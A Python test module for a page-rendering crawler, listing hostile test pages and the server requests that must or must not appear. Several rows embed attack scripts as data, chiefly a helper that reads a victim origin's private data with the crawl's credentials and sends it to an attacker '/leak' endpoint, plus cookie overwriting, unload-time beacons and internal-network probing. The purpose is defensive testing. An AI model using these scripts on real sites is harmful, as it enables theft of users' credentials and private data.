"""Pages that attack other sites by being rendered, and what the servers must have seen of it.

Each row is a small web of its own: the hosts ``evil``, ``victim`` and others, by their first names.
In its pages, ``{victim}`` stands for the origin of that host. The servers' record has a line for
each request: method, host and target, and then the fields that matter.
"""

import re
from types import MappingProxyType
from typing import NamedTuple

# Fields of requests that the record has, by lower-case name.
_RECORDED = re.compile(r"authorization|cookie|origin|accept|x-.*|access-control-.*|range|if-.*")
_TEXT = "text/plain; charset=utf-8"


class EvilPage(NamedTuple):
    """A row.

    pages: by host and path, the HTML of a page; or a function that is called with the fields of the
        request and its method, and returns the fields of the answer, and its body or status.
    never: a pattern that no line of the record matches.
    counts: how many lines match each of these patterns.
    tables: by host, its table of HOSTS_POLICY_FILE, which is also for the hosts below it. In it,
        ``{proxy}`` stands for a proxy that leads to all hosts.
    public: the hosts that have a public address.
    seeds: where the crawl begins.
    """

    name: str
    pages: dict
    never: str = "(?!)"
    counts: dict[str, int] = MappingProxyType({})
    tables: dict[str, str] = MappingProxyType({})
    public: tuple[str, ...] = ()
    seeds: tuple[str, ...] = ("evil/",)


class EvilSite:
    """Serves a row: *answer* is for ``HttpSite``; *record* has a line for each request."""

    def __init__(self, row, number):
        self.row = row
        self.record = []
        self._suffix = f"-{number}.test"
        self.port = 0

    def origin(self, host):
        """``sub.victim`` is below ``victim``."""
        return f"http://{host}{self._suffix}:{self.port}"

    @property
    def hosts(self):
        names = {page.partition("/")[0] for page in self.row.pages}
        return {name: f"{name}{self._suffix}" for name in names}

    @property
    def tables(self):
        proxy = f"http://127.0.0.1:{self.port}"
        tables = self.row.tables.items()
        return "".join(
            f'["{host}{self._suffix}"]\n{table}'.replace("{proxy}", proxy) for host, table in tables
        )

    def serves(self, host):
        return host.rpartition(":")[0].endswith(self._suffix)

    def answer(self, handler):
        host = handler.headers["Host"].rpartition(":")[0].removesuffix(self._suffix)
        got = {name.lower(): value for name, value in handler.headers.items()}
        fields = [f"{name}: {value}" for name, value in got.items() if _RECORDED.fullmatch(name)]
        path = re.sub("^http://[^/]*", "", handler.path)  # a proxy gets the whole URL
        target = f"{host}{path}"
        if path == "/robots.txt":  # no page asks for it
            return 404, {}, b""
        self.record.append("; ".join([f"{handler.command} {target}", *sorted(fields)]))
        page = self.row.pages.get(target.partition("?")[0], 404)
        if callable(page):
            page = page(got, handler.command)
        if isinstance(page, int):
            return page, {}, b""
        fields, body = ({}, page) if isinstance(page, str) else page
        fields = {name: self._filled(value) for name, value in fields.items()}
        if isinstance(body, int):
            return body, fields, b""
        return 200, fields, self._filled(body).encode()

    def _filled(self, text):
        return re.sub(r"\{([a-z.]+)\}", lambda match: self.origin(match[1]), text)

    def complaints(self):
        """What the record has and must not have, or the other way round."""
        found = [f"never: {line}" for line in self.record if re.search(self.row.never, line)]
        for pattern, count in self.row.counts.items():
            lines = [line for line in self.record if re.search(pattern, line)]
            if len(lines) != count:
                found.append(f"{pattern}: {len(lines)} of {count}")
        return found and [*found, *self.record]


def _page(script, *links):
    anchors = "".join(f"<a href={link}>x</a>" for link in links)
    return f"<!DOCTYPE html><body>{anchors}<script>{script}</script>"


def _read(url, options="{}"):
    """A script that reads *url* and sends the text to its own site."""
    return (
        f"fetch('{url}', {options}).then(one => one.text())"
        ".then(text => fetch('/leak?' + encodeURIComponent(text)))"
    )


def _private(got, _, *, name="authorization", fields=None, public="public"):
    """Secret for who has the credentials of the crawl, *public* for others."""
    text = "SECRET" if re.search("T0KEN|J4R", got.get(name, "")) else public
    return {"Content-Type": _TEXT, **(fields or {})}, text


def _echo(got, method):
    """An answer that each page may read, with what it sends, after a preflight, too."""
    fields = {
        "Access-Control-Allow-Origin": got.get("origin", "*"),
        "Access-Control-Allow-Headers": got.get("access-control-request-headers", ""),
        "Access-Control-Max-Age": "600",
        "Content-Type": "application/json",
        "Vary": "Origin",
    }
    return fields, "[]" if method == "GET" else ""


def _with_credentials(got, method):
    fields, _ = _echo(got, method)
    fields["Access-Control-Allow-Credentials"] = "true"
    return _private(got, method, name="cookie", fields=fields)


def _who_asks(got, method):
    """A page of another site that asks changes the cookie."""
    fields, text = _with_credentials(got, method)
    if "origin" in got:
        fields["Set-Cookie"] = "session=EVIL"
    return fields, text


_TOKEN = 'headers = {Authorization = "Bearer T0KEN"}\nverify = false\n'
_COOKIE = 'cookies = {session = "T0KEN"}\nverify = false\n'
_PROXY = 'proxy = "{proxy}"\n'
_RAN = "fetch('/ran?%s')"
_SCRIPT = {"Content-Type": "text/javascript"}
# What a page does when its pass is over.
_LATE = """
for (const name of ['pageswap', 'pagehide', 'unload', 'beforeunload', 'visibilitychange', 'freeze'])
  addEventListener(name, () => {
    for (let n = 0; n < 127; n++) {
      fetch('{victim}/late?' + n, {keepalive: true}).catch(() => 0);
      fetch('/late?' + n).catch(() => 0);
    }
    document.cookie = localStorage.a = name = 'EVIL';
  }, true);
"""
# The links that a script adds, below elements that have names of the DOM.
_NAMES = """
document.body.innerHTML += `<form id=childNodes><a href=/form-N>x</a><input name=shadowRoot>
<input name=childNodes><input name=attributes></form><a href=/kept-N>x</a>`;
"""
# Where no site answers.
_NOWHERE = ("about:blank", "chrome-extension://x/x.html", "chrome-untrusted://print/", "data:,x")

EVIL_PAGES = [
    EvilPage(
        "reads what the crawl may read",
        {"evil/": _page(_read("{victim}/private.json")), "victim/private.json": _private},
        never="leak|T0KEN",
        counts={r"GET victim/private.json; accept: \*/\*; origin: http://evil-": 1},
        tables={"victim": _TOKEN},
    ),
    EvilPage(
        "reads with the cookies that the crawl has, and permission",
        {
            "evil/": _page(_read("{victim}/me", "{credentials: 'include'}")),
            "victim/me": _with_credentials,
        },
        never="SECRET|T0KEN",
        counts={r"GET evil/leak\?public": 1},
        tables={"victim": _COOKIE},
    ),
    EvilPage(
        "reads and changes what the crawl is known by",
        {
            "victim/": lambda *_: (
                {"Set-Cookie": "session=J4R", "Content-Type": "text/html"},
                _page("fetch('/me')", "{evil}/page"),
            ),
            "evil/page": _page(_read("{victim}/me"), "{victim}/later"),
            "victim/me": _who_asks,
            "victim/later": "later",
        },
        never="SECRET|EVIL",
        counts={
            r"GET victim/me; accept: \*/\*; cookie: session=J4R$": 1,
            r"GET evil/leak\?public": 1,
            r"GET victim/later; .*cookie: session=J4R": 1,
        },
        seeds=("victim/",),
    ),
    EvilPage(
        "includes a script that has data of its reader",
        {
            "evil/": _page(
                "document.write('<script src={victim}/data.js><\\/script>')", "{victim}/page"
            ),
            "victim/page": "<body><script src=/data.js></script>"
            "<script src={sub.victim}/data.js></script>",
            "victim/data.js": lambda got, _: _private(
                got, _, fields=_SCRIPT, public="fetch('/leak?public')"
            ),
            "sub.victim/data.js": lambda got, _: _private(got, _, fields=_SCRIPT),
        },
        never="SECRET",
        counts={
            r"GET evil/leak\?public": 1,
            r"GET victim/leak": 0,
            r"GET victim/data.js; accept: \*/\*$": 1,
            r"GET (sub\.)?victim/data.js; accept: \*/\*; authorization: Bearer T0KEN$": 2,
        },
        tables={"victim": _TOKEN},
    ),
    EvilPage(
        "a script that only its own site may include",
        {
            "evil/": _page("document.write('<script src={victim}/own.js><\\/script>')"),
            "victim/own.js": lambda *_: (
                {**_SCRIPT, "Cross-Origin-Resource-Policy": "same-site"}, _RAN % "own"
            ),
        },
        never="ran",
        counts={"GET victim/own.js": 1},
    ),
    EvilPage(
        "asks another site for more than a page may",
        {
            "evil/": _page(
                "for (let n = 0; n < 256; n++) fetch('{victim}/' + n).catch(() => 0)",
                "{victim}/page",
            ),
            "victim/page": "<p>a page",
        },
        counts={"GET victim/[0-9]": 64, "GET victim/page": 1},
    ),
    EvilPage(
        "acts when its pass is over",
        {
            "evil/": _page(_LATE, "/two", "{victim}/page"),
            "evil/two": _page(_LATE + "fetch('/asked?' + document.cookie + localStorage.a)"),
            "victim/page": "<body><script src=/app.js></script>",
            "victim/app.js": lambda *_: (_SCRIPT, _RAN % "' + (localStorage.a || name) + '"),
        },
        never="late|EVIL",
        counts={r"GET evil/asked\?undefined": 1, r"GET victim/ran\?;": 1},
    ),
    EvilPage(
        "leaves for nowhere, and its elements have names of the DOM",
        {
            "evil/": _page("", *(f"/{number}" for number in range(len(_NOWHERE)))),
            **{
                f"evil/{number}": _page(
                    _NAMES.replace("-N", "-" + str(number)) + f"location = '{url}'"
                )
                for number, url in enumerate(_NOWHERE)
            },
        },
        counts={"GET evil/kept": len(_NOWHERE), "GET evil/form": len(_NOWHERE)},
    ),
    EvilPage(
        "data by time",
        {
            "evil/": _page(
                "".join(_read(f"/news?t={time}") + ";" for time in (1700000000, 1700003600))
            ),
            "evil/news": lambda *_: ({"Content-Type": _TEXT}, "news"),
        },
        counts={r"GET evil/news\?t=1700000000": 1, r"GET evil/news\?t=1700003600": 1},
    ),
    EvilPage(
        "chooses the script of another site",
        {
            "evil/": _page(
                "document.write('<script src={victim}/app.js?_=1><\\/script>');"
                "fetch('{victim}/app.js', {headers: {Accept: 'text/plain'}});"
                "fetch('{victim}/app.js', {mode: 'no-cors', headers: {Accept: 'text/html'}});",
                "{victim}/page",
            ),
            "victim/page": "<body><script src=/app.js></script>",
            "victim/app.js": lambda got, _: (
                _SCRIPT,
                _RAN % ("right" if got["accept"] == "*/*" and "origin" not in got else "wrong"),
            ),
        },
        never=r"victim/ran\?wrong",
        counts={r"GET victim/ran\?right": 1},
    ),
    EvilPage(
        "a field that needs permission, which the site does not give",
        {
            "evil/": _page(_read("{victim}/api", "{headers: {'X-Own': '1'}}")),
            "victim/api": lambda *_: ({"Content-Type": _TEXT}, "data"),
        },
        never="GET victim/api|leak",
        counts={
            r"OPTIONS victim/api; accept: \*/\*; access-control-request-headers: x-own;"
            r" access-control-request-method: GET; origin: http://evil-": 1
        },
    ),
    EvilPage(
        "a field that needs permission, which the site gives",
        {
            "evil/": _page(_read("{victim}/api", "{headers: {'X-Own': '1'}}"), "/two"),
            "evil/two": _page(_read("{victim}/api", "{headers: {'X-Own': '1'}}")),
            "victim/api": _echo,
        },
        counts={
            "OPTIONS victim/api": 1,
            r"GET victim/api; accept: \*/\*; origin: http://evil-.*; x-own: 1$": 1,
            "GET evil/leak": 1,
        },
    ),
    EvilPage(
        "fields of its own",
        {
            "evil/": _page(
                "fetch('/data', {headers: {Accept: 'application/json',"
                " 'X-Api-Key': 'K3Y'.toLowerCase(),"
                " Authorization: 'Bearer x', Range: 'bytes=0-1', 'If-Match': 'x', From: 'x',"
                " 'X-Forwarded-For': '1.1.1.1', 'X-Real-IP': '1.1.1.1', 'Forwarded': 'for=x',"
                " 'User-Agent': 'x', 'Signature-Input': 'x'}})"
            ),
            "evil/data": lambda *_: ({}, "[]"),
        },
        counts={r"GET evil/data; accept: application/json; x-api-key: k3y$": 1},
    ),
    EvilPage(
        "more fields than may be sent",
        {
            "evil/": _page(
                "const many = n => ({headers: Object.fromEntries([...Array(n).keys()]"
                ".map(i => ['X-' + i, '']))}); fetch('/16', many(15)); fetch('/17', many(17));"
                "fetch('/long', {headers: {'X-Long': 'x'.repeat(4096)}})"
            ),
        },
        never="evil/(17|long)",
        counts={"GET evil/16": 1},
    ),
    EvilPage(
        "reaches into the network of the crawl",
        {
            "evil/": _page(
                _read("{victim}/admin") + ";" + _read("/moved") + ";" + _read("{other}/public")
                + ";document.write('<script src={victim}/conf.js><\\/script>')",
                "{third}/",
            ),
            "evil/moved": lambda *_: (
                {"Location": "{victim}/moved", "Access-Control-Allow-Origin": "*"}, 302
            ),
            "other/public": _echo,
            "victim/": "private",
            "victim/admin": _echo,
            # A page there may, and what it has got is not for others.
            "third/": _page(_read("{victim}/admin")),
        },
        never="evil/leak.*victim|GET victim/(moved|conf)",
        counts={
            r"GET evil/leak\?%5B": 1,
            "GET other/public": 1,
            r"GET victim/admin; accept: \*/\*; origin: http://third-": 1,
            "GET third/leak": 1,
        },
        public=("evil", "other"),
    ),
    EvilPage(
        "denies a script to a page that may have it",
        {
            "evil/": _page("document.write('<script src={victim}/app.js><\\/script>')"),
            "victim/page": "<body><script src=/app.js></script>",
            "victim/app.js": lambda *_: (_SCRIPT, _RAN % "own"),
        },
        never="evil/ran",
        counts={"GET victim/app.js": 1, r"GET victim/ran\?own": 1},
        public=("evil",),
        seeds=("evil/", "victim/page"),
    ),
    EvilPage(
        "fetches pages that wait to be rendered",
        {
            "evil/": _page(
                "fetch(location.href); fetch('/two'); fetch('{victim}/page', {mode: 'no-cors'})",
                "/two",
            ),
            "evil/two": _page("fetch('/'); fetch('{victim}/page', {mode: 'no-cors'})"),
            "victim/page": _page(_RAN % "page"),
        },
        counts={
            "GET evil/;": 2,
            "GET evil/two;": 2,
            "GET victim/page;": 2,
            r"GET victim/ran\?page": 1,
        },
        seeds=("evil/", "victim/page"),
    ),
    EvilPage(
        "reaches what is behind a proxy",
        {"evil/": _page(_read("{victim}/admin")), "victim/admin": _echo},
        never="GET victim/|leak",
        tables={"victim": _PROXY},
        public=("evil",),
    ),
    EvilPage(
        "comes through a proxy and reaches what is near it",
        {"evil/": _page(_read("{victim}/admin")), "victim/admin": _echo},
        never="GET victim/|leak",
        tables={"evil": _PROXY},
    ),
    EvilPage(
        "uses the proxy of its own host",
        {"evil/": _page(_read("{victim}/admin")), "victim/admin": _echo},
        counts={"GET victim/admin": 1, "GET evil/leak": 1},
        tables={"evil": _PROXY, "victim": _PROXY},
    ),
]  # fmt: skip
